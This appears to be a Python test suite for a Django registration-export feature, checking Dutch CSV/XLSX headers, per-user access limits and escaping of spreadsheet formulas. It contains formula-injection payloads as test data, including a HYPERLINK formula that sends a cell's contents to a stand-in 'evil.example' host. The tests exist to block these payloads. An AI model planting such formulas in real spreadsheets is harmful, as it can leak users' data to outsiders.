"""Export of registrations to CSV and XLSX: Dutch headers, only what the user may see, inert cells."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from core.spreadsheets import escape_formula
from regiosessies.resources import AanmeldingResource
from regiosessies.tests import factories

pytestmark = pytest.mark.django_db

EXPORT_URL = "admin:regiosessies_aanmelding_export"


def register(session, name, *, email=None, organisation="Gemeente Test", **extra):
    return factories.register(
        session, email or f"{abs(hash(name))}@example.nl", name, organisation=organisation, **extra
    )


def export(client, fmt: str, query: str = ""):
    """Submit the admin's export form. Formats are offered in import-export's order: csv first, xlsx after."""
    url = reverse(EXPORT_URL) + query
    form = client.get(url).context["form"]
    choices = {label.lower(): value for value, label in form.fields["format"].choices if value != ""}
    data = {"format": choices[fmt]}
    # Tick every column the resource offers (the form's selectable fields).
    for name in form.fields:
        if name.startswith("aanmeldingresource_"):
            data[name] = "on"
    data["resource"] = 0
    return client.post(url, data)


def rows_from_csv(response) -> list[dict]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("value", ['=HYPERLINK("http://x","klik")', "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_values_that_start_a_formula_get_an_apostrophe(value):
    assert escape_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna", "", "06-1234", "a=b", None, 3])
def test_ordinary_values_are_left_alone(value):
    assert escape_formula(value) == value


def test_resource_has_dutch_headers(session_a):
    register(session_a, "Anna")
    dataset = AanmeldingResource().export()
    assert dataset.headers[:5] == ["Regiosessie", "Datum sessie", "Naam", "E-mailadres", "Organisatie"]
    assert "Soort organisatie" in dataset.headers and "Aanwezig geweest" in dataset.headers


def test_csv_export_escapes_a_formula_in_a_name(client, programmateam, session_a):
    register(session_a, '=HYPERLINK("http://evil.example/?"&A1,"Klik")', organisation="@kwaad")
    client.force_login(programmateam)
    response = export(client, "csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    [row] = rows_from_csv(response)
    assert row["Naam"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    assert row["Organisatie"] == "'@kwaad"
    assert row["Soort organisatie"] == "Gemeente"
    assert row["Status"] == "bevestigd"


def test_xlsx_export_stores_the_escaped_text_not_a_formula(client, programmateam, session_a):
    register(session_a, "=1+1", organisation="Provincie")
    client.force_login(programmateam)
    response = export(client, "xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    name_cell = sheet.cell(row=2, column=header.index("Naam") + 1)
    assert name_cell.value == "'=1+1"
    assert name_cell.data_type == "s"


def test_facilitator_export_contains_only_their_sessions(client, facilitator_a, session_a, session_b):
    register(session_a, "Anna Noord")
    register(session_b, "Bram Zuid")
    client.force_login(facilitator_a)
    names = [row["Naam"] for row in rows_from_csv(export(client, "csv"))]
    assert names == ["Anna Noord"]


def test_facilitator_cannot_export_another_session_by_filtering_on_it(client, facilitator_a, session_a, session_b):
    register(session_b, "Bram Zuid")
    client.force_login(facilitator_a)
    rows = rows_from_csv(export(client, "csv", f"?session={session_b.pk}"))
    assert rows == []


def test_facilitator_cannot_export_another_sessions_rows_through_the_action(
    client, facilitator_a, session_a, session_b
):
    mine = register(session_a, "Anna Noord")
    theirs = register(session_b, "Bram Zuid")
    client.force_login(facilitator_a)
    form = client.get(reverse(EXPORT_URL)).context["form"]
    csv_value = next(v for v, label in form.fields["format"].choices if label.lower() == "csv")
    data = {"format": csv_value, "resource": 0}
    for name in form.fields:
        if name.startswith("aanmeldingresource_"):
            data[name] = "on"

    smuggled = client.post(reverse(EXPORT_URL), {**data, "export_items": [mine.pk, theirs.pk]})
    assert "Bram Zuid" not in smuggled.content.decode("utf-8-sig")

    own = client.post(reverse(EXPORT_URL), {**data, "export_items": [mine.pk]})
    assert [row["Naam"] for row in rows_from_csv(own)] == ["Anna Noord"]


def test_programme_staff_export_one_session_through_its_filter(client, programmateam, session_a, session_b):
    register(session_a, "Anna Noord")
    register(session_b, "Bram Zuid")
    client.force_login(programmateam)
    rows = rows_from_csv(export(client, "csv", f"?session={session_b.pk}"))
    assert [row["Naam"] for row in rows] == ["Bram Zuid"]
    assert rows[0]["Regiosessie"] == str(session_b)


def test_export_action_on_selected_registrations_offers_the_export_form(client, programmateam, session_a):
    aanmelding = register(session_a, "Anna Noord")
    client.force_login(programmateam)
    response = client.post(
        reverse("admin:regiosessies_aanmelding_changelist"),
        {"action": "export_admin_action", ACTION_CHECKBOX_NAME: [aanmelding.pk]},
    )
    assert response.status_code == 200
    assert "export_items" in response.context["form"].fields


def test_anonymous_visitor_cannot_export(client, session_a):
    register(session_a, "Anna Noord")
    response = client.post(reverse(EXPORT_URL), {"format": 0})
    assert response.status_code == 302
    assert "Anna" not in response.content.decode()
